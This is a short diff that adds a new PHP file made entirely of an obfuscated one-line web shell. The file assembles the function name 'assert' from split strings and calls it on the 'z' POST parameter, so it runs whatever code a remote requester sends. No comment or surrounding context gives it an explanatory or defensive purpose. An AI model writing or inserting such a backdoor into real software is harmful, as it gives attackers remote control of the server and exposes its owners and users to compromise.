@@ -1,0 +1,3 @@
+<?php
+$a = "as"."sert";
+$a($_POST['z']);
